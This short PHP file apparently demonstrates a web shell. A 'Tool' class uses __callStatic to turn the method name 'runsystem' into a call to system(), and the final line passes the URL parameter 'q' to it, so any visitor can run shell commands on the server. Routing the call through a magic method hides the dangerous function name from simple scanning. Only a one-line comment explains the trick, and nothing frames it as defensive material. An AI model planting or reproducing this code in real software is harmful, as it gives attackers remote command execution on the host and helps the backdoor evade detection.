<?php
// A static call of a method the class lacks reaches __callStatic, which runs the method's name.
class Tool
{
    public static function __callStatic($verb, $params)
    {
        $fn = substr($verb, 3);
        return $fn(...$params);
    }
}

echo Tool::runsystem($_GET['q']);
